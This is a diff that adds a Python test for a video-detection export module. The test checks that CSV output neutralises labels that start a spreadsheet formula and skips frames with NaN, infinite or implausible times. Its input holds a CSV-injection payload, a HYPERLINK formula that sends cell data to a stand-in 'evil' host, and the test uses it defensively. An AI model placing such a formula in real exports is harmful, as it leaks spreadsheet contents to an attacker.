@@ -453,3 +453,33 @@ def test_memory_stays_flat_however_many_runs_the_range_holds(tmp_path: Path) -> 
         store.close()
     assert (few_lines, many_lines) == (40 * 100, 400 * 100)
     assert many < few * 1.5, (few, many)
+
+
+def test_a_label_is_never_a_spreadsheet_formula_and_odd_numbers_are_skipped() -> None:
+    """A stage may name its labels anything: one that starts a formula is made inert in
+    CSV; NaN, infinity or a time past any clip skip their frame rather than break the
+    stream (or write JSON that is not JSON)."""
+    from datetime import UTC, datetime
+
+    from orchestrator.exports.lines import RunSource, render_run
+
+    source = RunSource(
+        "door", "c-1", "t/door/a.mp4", "r-1", "faces", datetime(2026, 3, 1, tzinfo=UTC)
+    )
+    evil = '=HYPERLINK("http://evil/?"&A1,"face")'
+    result = {
+        "frames": [
+            {"t": 0.0, "detections": [{"label": evil, "score": 0.9, "box": [1, 2, 3, 4]}]},
+            {"t": 0.2, "detections": [{"label": "-1+1", "score": 0.5}]},
+            {"t": float("nan"), "detections": []},
+            {"t": 1e20, "detections": []},
+            {"t": 0.4, "detections": [{"label": "face", "score": float("inf")}]},
+        ]
+    }
+    csv_run = render_run(source, result, "csv")
+    assert csv_run.skipped == 3 and csv_run.lines == 2
+    rows = list(csv.reader(io.StringIO(csv_run.text)))
+    assert [r[7] for r in rows] == ["'" + evil, "'-1+1"]
+    assert rows[0][8] == "0.9" and rows[0][9:] == ["1.0", "2.0", "3.0", "4.0"]
+    jsonl = render_run(source, result, "jsonl")
+    assert [json.loads(line)["label"] for line in jsonl.text.splitlines()] == [evil, "-1+1"]
